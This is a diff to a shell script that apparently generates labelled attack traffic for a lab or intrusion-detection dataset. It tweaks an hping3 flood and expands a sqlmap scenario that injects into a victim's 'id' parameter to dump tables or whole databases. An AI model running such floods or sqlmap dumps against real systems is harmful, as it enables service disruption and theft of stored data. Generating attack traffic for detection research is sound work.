@@ -213,7 +213,7 @@ sc_nmap_sweep() {
 flood() {
   SC_CLASS=DoS-Flood SC_BOUND=30
   attacker
-  param count 3000-12000 2000-6000
+  param count 2000-8000 1500-5000
   param interval_us 20-200 40-400
   param payload 0-512 16-1024
   local own=$SC_ATTACKERS cmd="hping3 -q $1 -i u$P_interval_us -c $P_count -d $P_payload"
@@ -301,15 +301,26 @@ sc_slowread() {
 
 # ---- WebAttack ----------------------------------------------------------------------------------
 
+# Detection, then the seeded goal: enumerate the schema, dump one table, or dump everything.
 sc_sqlmap() {
   SC_CLASS=WebAttack SC_BOUND=45
   attacker
   param technique B,E,U,BEU,BU BE,EU,BEUS
   param level 1-2 1-3
+  param risk 1-2 1-3
   param threads 1-4 1-3
-  SC_CMD="sqlmap -u 'http://$VICTIM_IP/item?id=1' -p id --batch --dbms=SQLite --flush-session \
-    --technique=$P_technique --level $P_level --threads $P_threads --output-dir=$WORK/sqlmap \
-    -T accounts --dump >/dev/null"
+  param goal schema,accounts,all all,schema
+  param extra_params 1-3 1-2
+  local -A goals=([schema]="--tables --columns" [accounts]="-T accounts --dump" [all]="--dump-all")
+  # sqlmap tests the parameters in order: the app ignores the extra ones in front of id, so each
+  # gets the technique's full battery before id is found injectable
+  local query="" i
+  local -a extras=(cat sort page)
+  for i in $(seq 0 $((P_extra_params - 1))); do query+="${extras[$i]}=$(rng_int "extra$i" 1 99)&"; done
+  query+="id=1"
+  SC_CMD="sqlmap -u 'http://$VICTIM_IP/item?$query' --batch --dbms=SQLite --flush-session \
+    --technique=$P_technique --level $P_level --risk $P_risk --threads $P_threads \
+    --output-dir=$WORK/sqlmap ${goals[$P_goal]} >/dev/null"
 }
 
 # ---- DNSTunnel ----------------------------------------------------------------------------------
